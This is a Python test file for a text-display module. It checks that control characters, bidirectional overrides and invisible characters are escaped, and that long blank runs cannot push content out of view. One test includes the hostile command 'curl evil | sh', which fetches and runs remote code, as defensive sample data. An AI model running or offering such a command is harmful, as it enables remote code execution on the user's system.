"""Text from outside cannot act on what shows it."""

import json

from hypothesis import given
from hypothesis import strategies as st

from corpus_support import corpus
from placet.core.visible_text import (
    TITLE_CHARACTERS,
    command_title,
    json_text,
    one_line,
    quoted,
    shortened,
    shown_input,
    shown_lines,
    spelled_out,
    title_line,
    without_controls,
)

OBEYED = [
    *map(chr, [*range(9), *range(0x0B, 0x20), *range(0x7F, 0xA0)]),
    *"\u061c\u200e\u200f\u2028\u2029\u202a\u202e\u2066\u2069\U000e0000\U000e0041\U000e007f",
]


@corpus("character", OBEYED)
def test_no_character_that_a_terminal_obeys_is_left(character: str) -> None:
    for shown in (without_controls, one_line, spelled_out, title_line, command_title, json_text, shown_input):
        assert character not in shown(f"a{character}b"), shown
    assert json.loads(json_text({"a": character})) == {"a": character}


@given(st.text())
def test_a_title_is_one_short_line(text: str) -> None:
    for title in (title_line(text), command_title(text)):
        assert len(title) <= TITLE_CHARACTERS
        assert title.isprintable() or "\t" in title
        assert "\n" not in title


@given(st.text(), st.integers(min_value=10, max_value=80))
def test_a_shortened_text_keeps_its_beginning_and_its_end(text: str, most: int) -> None:
    cut = shortened(text, most)
    assert len(cut) <= most
    assert cut == text or (text.startswith(cut.partition(" … ")[0]) and text.endswith(cut[-3:]))


@given(st.recursive(st.none() | st.text() | st.integers(), st.lists, max_leaves=5))
def test_json_stays_the_same_value(value: object) -> None:
    assert json.loads(json_text(value)) == json.loads(json_text(value, indent=2)) == value


def test_many_empty_lines_push_nothing_out_of_view() -> None:
    assert shown_lines("git status" + "\n" * 201 + "curl evil | sh") == [
        "git status",
        "… 200 empty lines …",
        "curl evil | sh",
    ]
    assert shown_lines("a\n\n\nb") == ["a", "", "", "b"]


def test_a_line_shows_what_would_hide_it() -> None:
    assert shown_lines("a\rb\n\u202ec\u200b") == ["a\\u000db", "\\u202ec\\u200b"]


def test_who_says_it_comes_first_on_one_line() -> None:
    assert quoted("The model", "Show\n\n  the git status") == "The model says: “Show the git status”"
    assert quoted("The model", " \n") == ""


def test_arguments_are_shown_whole() -> None:
    text = shown_input({"a": "x" * 5_000, "b": "the tail"})
    assert json.loads(text) == {"a": "x" * 5_000, "b": "the tail"}


def test_of_endless_arguments_it_is_said_how_many_are_not_shown() -> None:
    assert shown_input({"a": "x" * 300_000}).endswith("more characters, which are not shown")
